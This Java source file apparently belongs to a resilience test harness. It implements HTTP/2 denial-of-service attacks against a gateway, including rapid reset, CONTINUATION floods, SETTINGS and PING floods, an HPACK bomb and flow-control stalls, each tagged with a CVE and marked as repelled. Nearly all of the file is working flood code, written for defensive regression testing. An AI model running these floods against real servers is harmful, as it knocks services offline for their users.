package io.sluice.attack;

import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.List;

/** What a client of HTTP/2 can do. Stateless. */
final class Http2Attacks {

    private static final int CLIENTS = 16;
    /** Frames that go out in one write. */
    private static final int BURST = 100;
    /** Between bursts: over a million frames a second in all, not all of a machine that is shared with the victim. */
    private static final long BREATH_MILLIS = 1;
    /** Less than a stream's number can be, so that connections of a patient gateway end by themselves. */
    private static final int LAST_STREAM = 1 << 20;

    private static final int INITIAL_WINDOW_SIZE = 4;
    private static final byte[] EVENT = "{\"event\":\"a\"}".getBytes(StandardCharsets.US_ASCII);

    /** What is written again and again, for streams that no one has used before. */
    private interface Burst {
        void add(Frames frames, int stream);
    }

    private Http2Attacks() {}

    static List<Attack> all() {
        return List.of(
                Attack.of(
                                "rapid-reset",
                                "requests that are cancelled in the same breath",
                                field -> flood(
                                        field,
                                        (frames, stream) -> frames.pixel(stream).cancel(stream)))
                        .known("CVE-2023-44487")
                        .repelled(),
                Attack.of(
                                "made-you-reset",
                                "requests behind which a wrong frame makes the server reset them",
                                field -> flood(
                                        field,
                                        (frames, stream) -> frames.pixel(stream).window(stream, 0)))
                        .known("CVE-2025-8671")
                        .repelled(),
                Attack.of(
                                "reset-after-body",
                                "whole events that are cancelled before they are answered",
                                field -> flood(
                                        field,
                                        (frames, stream) -> frames.post(stream)
                                                .data(stream, true, EVENT)
                                                .cancel(stream)))
                        .repelled(),
                Attack.of("continuation-flood", "a head that never ends", Http2Attacks::continuation)
                        .known("CVE-2024-27316")
                        .repelled(),
                Attack.of(
                                "settings-flood",
                                "settings, all to be acknowledged",
                                field -> flood(field, (frames, stream) -> frames.settings(INITIAL_WINDOW_SIZE, 65_535)))
                        .known("CVE-2019-9515")
                        .repelled(),
                Attack.of(
                                "ping-flood",
                                "pings, all to be answered",
                                field -> flood(field, (frames, stream) -> frames.frame(Frames.PING, 0, 0, new byte[8])))
                        .known("CVE-2019-9512")
                        .repelled(),
                Attack.of("empty-frames", "bodies of frames without a byte", Http2Attacks::emptyFrames)
                        .known("CVE-2019-9518")
                        .repelled(),
                Attack.of(
                                "priority-churn",
                                "priorities of streams that there are not",
                                field -> flood(
                                        field,
                                        (frames, stream) -> frames.frame(
                                                Frames.PRIORITY,
                                                0,
                                                stream,
                                                new Frames()
                                                        .number(4, 0)
                                                        .number(1, 7)
                                                        .take())))
                        .known("CVE-2019-9513")
                        .repelled(),
                Attack.of("hpack-bomb", "heads of one byte a field of 4 KB each", Http2Attacks::hpackBomb)
                        .known("CVE-2016-6581")
                        .repelled(),
                Attack.of("zero-window", "requests whose answers there is no window for", field -> stall(field, 0)),
                Attack.of("tiny-window", "answers that are taken byte by byte", field -> stall(field, 1))
                        .known("CVE-2019-9511"));
    }

    private static void flood(Field field, Burst burst) throws InterruptedException {
        field.swarm(CLIENTS, socket -> {
            OutputStream out = open(socket);
            Frames frames = new Frames();
            for (int stream = 1; !field.isOver() && stream < LAST_STREAM; ) {
                for (int i = 0; i < BURST; i++, stream += 2) {
                    burst.add(frames, stream);
                }
                out.write(frames.take());
                field.pause(BREATH_MILLIS);
            }
        });
    }

    /** One who goes on whatever he is told, until he is cut. */
    private static OutputStream open(Socket socket, int... settings) throws IOException {
        Field.ignore(socket);
        OutputStream out = socket.getOutputStream();
        out.write(Frames.opening(settings).take());
        return out;
    }

    private static void continuation(Field field) throws InterruptedException {
        // A literal without indexing, name and value.
        byte[] more =
                new Frames().number(1, 0).text("x-more").text("y".repeat(1000)).take();
        field.swarm(CLIENTS, socket -> {
            OutputStream out = open(socket);
            out.write(new Frames()
                    .frame(Frames.HEADERS, Frames.END_STREAM, 1, Frames.request(true))
                    .take());
            byte[] frame = new Frames().frame(Frames.CONTINUATION, 0, 1, more).take();
            while (!field.isOver()) {
                out.write(frame);
                field.pause(BREATH_MILLIS);
            }
        });
    }

    private static void emptyFrames(Field field) throws InterruptedException {
        field.swarm(CLIENTS, socket -> {
            OutputStream out = open(socket);
            out.write(new Frames().post(1).take());
            Frames frames = new Frames();
            while (!field.isOver()) {
                for (int i = 0; i < BURST; i++) {
                    frames.data(1, false, new byte[0]);
                }
                out.write(frames.take());
                field.pause(BREATH_MILLIS);
            }
        });
    }

    private static void hpackBomb(Field field) throws InterruptedException {
        String value = "z".repeat(4000);
        field.swarm(CLIENTS, socket -> {
            OutputStream out = open(socket);
            for (int stream = 1; !field.isOver() && stream < LAST_STREAM; stream += 2) {
                Frames fields = new Frames();
                fields.number(1, 0x82)
                        .number(1, 0x86)
                        .number(1, 0x84)
                        .number(1, 0x01)
                        .text("b.example");
                // With indexing: from then on it is number 62, one byte.
                fields.number(1, 0x40).text("a").text(value);
                while (fields.size() < 16_000) {
                    fields.number(1, 0x80 | 62);
                }
                out.write(new Frames()
                        .frame(Frames.HEADERS, Frames.END_HEADERS | Frames.END_STREAM, stream, fields.take())
                        .take());
                field.pause(BREATH_MILLIS);
            }
        });
    }

    private static void stall(Field field, int window) throws InterruptedException {
        field.swarm(20 * CLIENTS, socket -> {
            OutputStream out = open(socket, INITIAL_WINDOW_SIZE, window);
            Frames frames = new Frames();
            for (int stream = 1; stream < 2 * BURST; stream += 2) {
                frames.post(stream).data(stream, true, EVENT);
            }
            out.write(frames.take());
            while (!field.isOver()) {
                field.pause(500);
                for (int stream = 1; window != 0 && stream < 2 * BURST; stream += 2) {
                    frames.window(stream, window);
                }
                out.write(frames.frame(Frames.PING, 0, 0, new byte[8]).take());
            }
        });
    }
}
